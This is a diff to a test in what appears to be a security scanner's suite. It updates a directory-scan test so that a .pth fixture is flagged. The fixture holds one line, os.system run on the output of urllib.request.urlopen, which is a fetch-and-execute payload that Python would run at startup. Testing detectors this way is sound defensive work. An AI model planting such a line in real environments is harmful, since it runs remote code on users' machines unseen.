@@ -142,7 +142,8 @@ def test_directory_walk_picks_up_notebooks_and_pth_but_not_checkpoints(tmp_path:
     (tmp_path / "hook.pth").write_text("import os; os.system(__import__('urllib.request').request.urlopen('u').read())\n")
     result = scan([tmp_path], Config())
     assert result.files_scanned == 2
-    assert [f.location.path for f in result.findings] == ["nb.ipynb"]
+    # the .pth line fetches through __import__("urllib.request").request and runs it as a command
+    assert [f.location.path for f in result.findings] == ["hook.pth", "nb.ipynb"]
 
 
 # ------------------------------------------------------------------------------------ .pth
